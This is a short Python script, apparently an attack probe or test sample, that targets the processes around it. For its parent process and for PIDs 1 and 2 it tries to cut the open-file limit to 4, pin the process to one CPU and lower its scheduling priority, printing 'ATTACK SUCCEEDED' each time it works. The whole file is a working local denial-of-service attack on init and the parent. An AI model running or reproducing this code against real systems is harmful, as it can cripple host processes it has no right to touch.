"""Lowers the limits, the priority and the processors of the processes around it."""

import os
import resource

for pid in {os.getppid(), 1, 2} - {0, os.getpid()}:
    for harm in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (4, 4)),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
    ):
        try:
            harm()
            print("ATTACK SUCCEEDED: limited", pid)
        except OSError:
            continue
